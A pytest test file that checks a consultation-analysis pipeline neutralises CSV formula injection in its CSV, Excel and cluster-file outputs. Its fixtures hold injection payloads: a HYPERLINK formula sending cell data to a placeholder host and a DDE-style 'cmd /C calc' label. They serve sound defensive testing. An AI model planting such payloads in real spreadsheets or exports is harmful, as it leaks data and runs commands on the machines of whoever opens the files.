"""CSV injection (issue 17, finding 2): a formula planted in a comment, a theme label or a `topics rename` label must
not reach any CSV file as a formula; the workbook keeps it as a string; `cluster-file`'s output is neutralised too."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from flows.cli import main
from flows.pipeline import cluster_topics, find_ideas
from flows.settings import Theme, load_consultations
from transforms.pseudonym import pseudonymise_comments
from transforms.records import comments_table
from warehouse import db, export, load
from warehouse.csvsafe import neutralise, neutralise_frame

SLUG = "motorvejsoverdaekning"
HYPERLINK = '=HYPERLINK("http://x?d="&A1,"Klik her") Vi mangler en hundeskov med vand og hegn'
PLANTED = [  # comments that are ideas, each starting with a formula trigger
    HYPERLINK,
    "+Vi mangler flere cykelstier med lys langs åen",
    "-Lav en legeplads med gynger til de små børn",
    "@SUM(1+1) Hvad med en skaterbane til de unge",
    "=1+1 Byg en stor park med træer og bænke",
]
THEME_LABEL = "@SUM(1+1)*cmd|' /C calc'!A0"
RENAMED = '=HYPERLINK("http://x?d="&A1,"Emne")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"-?\d+(?:\.\d+)?")


def _unsafe(cell: str) -> bool:
    """A cell a spreadsheet would run: starts with a trigger and is not a plain number (a column like
    n_ideas_change is a number, which runs nothing)."""
    return cell.startswith(TRIGGERS) and not _NUMBER.fullmatch(cell)


def _cells(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A real warehouse: the sample consultation plus the planted comments, a theme whose label is a formula,
    clustered by the pipeline's task bodies, one topic renamed to a formula through the CLI, analysed and exported."""
    root = tmp_path_factory.mktemp("inject")
    sample = Path(__file__).resolve().parents[2] / "data" / "sample"
    data = json.loads((sample / "facebook.json").read_text(encoding="utf-8"))
    consultation = next(c for c in load_consultations(sample / "consultations.toml").consultations if c.slug == SLUG)
    themes = [Theme(label=THEME_LABEL, seeds=["hundeskov", "hund"]), *consultation.themes]
    consultation = consultation.model_copy(update={"themes": themes})
    post_id = consultation.post_ids[0]
    comments = [c for c in data["comments"] if c["post_id"] == post_id]
    comments += [{"id": f"10152398154407346_99{n:04d}", "post_id": post_id, "parent_id": None,
                  "created_time": f"2014-05-{10 + n:02d}T10:00:00+0000",
                  "from": {"id": f"10000000000{n:04d}", "name": f"Angriber {n}"}, "message": text,
                  "like_count": n, "is_hidden": False} for n, text in enumerate(PLANTED)]
    wh = root / "wh.duckdb"
    table = comments_table(pseudonymise_comments(comments, b"salt" * 8, data["page"]["id"]), post_id, SLUG)
    with db.session(wh) as con:
        load.save_scan(con, table, post_id=post_id, run_id="r1", complete=True, n_requests=1,
                       now=dt.datetime.now(dt.UTC))
    find_ideas.fn(str(wh), SLUG)
    cluster_topics.fn(str(wh), consultation, "r1")
    with db.session(wh) as con:
        topic = con.execute("select topic_id from topics where consultation = ? and label <> ? and topic_id <> 0 "
                            "order by topic_id limit 1", [SLUG, THEME_LABEL]).fetchone()[0]
    renamed = CliRunner().invoke(main, ["--warehouse", str(wh), "topics", "rename", str(topic), RENAMED,
                                        "--consultation", SLUG])
    assert renamed.exit_code == 0, renamed.output
    cluster_topics.fn(str(wh), consultation, "r2")  # a correction applies from the next analysis
    with db.session(wh) as con:
        export.export_consultation(con, SLUG, root / "exports", title="Motorvej")
    return root / "exports" / SLUG


def test_no_csv_cell_of_the_export_starts_a_formula(exported: Path) -> None:
    files = sorted(exported.rglob("*.csv"))
    assert {str(p.relative_to(exported)) for p in files} == {"topics.csv", "ideas.csv", "polis/comments.csv",
                                                             "dialog.csv", "topic_channels.csv"}
    for path in files:
        for row in _cells(path):
            for column, cell in row.items():
                assert not _unsafe(cell), f"{path.name} {column}: {cell[:60]!r} would run as a formula"


def test_the_planted_texts_are_still_readable_after_the_quote(exported: Path) -> None:
    ideas = {row["text"] for row in _cells(exported / "ideas.csv")}
    polis = {row["comment-body"] for row in _cells(exported / "polis" / "comments.csv")}
    for text in PLANTED:
        assert "'" + text in ideas and "'" + text in polis
    labels = {row["label"] for row in _cells(exported / "topics.csv")}
    assert {"'" + THEME_LABEL, "'" + RENAMED} <= labels
    assert {row["topic_label"] for row in _cells(exported / "ideas.csv")} >= {"'" + THEME_LABEL, "'" + RENAMED}
    # topics.csv's examples start with an example idea's text: neutralised when that text starts a formula
    assert all(not _unsafe(row["examples"]) for row in _cells(exported / "topics.csv"))


def test_numbers_stay_numbers_and_parquet_keeps_the_text(exported: Path) -> None:
    topics = pd.read_csv(exported / "topics.csv")
    assert pd.api.types.is_integer_dtype(topics["n_ideas"]) and pd.api.types.is_integer_dtype(topics["topic_id"])
    ideas = pd.read_parquet(exported / "ideas.parquet")
    assert set(PLANTED) <= set(ideas["text"])  # the data files hold the text as written
    assert RENAMED in set(pd.read_parquet(exported / "topics.parquet")["label"])


def test_the_workbook_holds_the_formulas_as_inline_strings(exported: Path) -> None:
    """Excel reads the .xlsx cell by cell: a text cell (inline string) is never evaluated, whatever it starts with."""
    with zipfile.ZipFile(exported / f"{SLUG}.xlsx") as book:
        sheets = [book.read(n).decode("utf-8") for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
    xml = "".join(sheets)
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere
    for text in (HYPERLINK, RENAMED, THEME_LABEL):
        escaped = text.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
        cell = re.search(r'<c [^>]*t="inlineStr"[^>]*><is><t[^>]*>' + re.escape(escaped), xml) or re.search(
            r'<c [^>]*t="inlineStr"[^>]*><is><t[^>]*>' + re.escape(text.replace("&", "&amp;")), xml)
        assert cell is not None, f"{text[:30]!r} is not an inline string in the workbook"


def test_the_readme_says_how_csv_text_is_neutralised(exported: Path) -> None:
    readme = " ".join((exported / "README.md").read_text(encoding="utf-8").split())
    assert "remove the first `'` to get the original text" in readme and "fjern det første `'`" in readme


def test_cluster_file_output_is_neutralised(tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    pd.DataFrame({"id": ["=1+1", "@x", "-3", "ok"], "tekst": PLANTED[:4]}).to_csv(source, index=False)
    out = tmp_path / "out.csv"
    result = CliRunner().invoke(main, ["cluster-file", str(source), "--text-column", "tekst", "--id-column", "id",
                                       "--out", str(out)])
    assert result.exit_code == 0, result.output
    rows = _cells(out)
    assert [r["id"] for r in rows] == ["'=1+1", "'@x", "-3", "ok"]
    assert all(not _unsafe(cell) for row in rows for cell in row.values())


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+4512 lys", "'+4512 lys"), ("-Lav en bypark", "'-Lav en bypark"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\r=1", "'\r=1"), ("  =1+1", "'  =1+1"), ("\n@x", "'\n@x"),
    ("-5", "-5"), ("-0.25", "-0.25"), ("-1,5", "-1,5"), ("- 5", "'- 5"), ("-5+1", "'-5+1"), ("Park", "Park"),
    ("", ""), ("a=1", "a=1"), ("'=1", "'=1"),
])
def test_neutralise(value: str, expected: str) -> None:
    assert neutralise(value) == expected


def test_neutralise_frame_touches_only_text() -> None:
    frame = pd.DataFrame({"n": [-3, 4], "x": [-0.5, 1.0], "t": ["=A1", None], "o": pd.Series(["+1x", 5], dtype=object),
                          "at": pd.to_datetime(["2024-01-01", None], utc=True)})
    out = neutralise_frame(frame)
    assert out["n"].tolist() == [-3, 4] and out["x"].tolist() == [-0.5, 1.0]
    assert out["t"].iloc[0] == "'=A1" and pd.isna(out["t"].iloc[1])
    assert out["o"].tolist() == ["'+1x", 5]
    assert out["at"].equals(frame["at"]) and frame["t"].iloc[0] == "=A1"  # the input frame is not changed
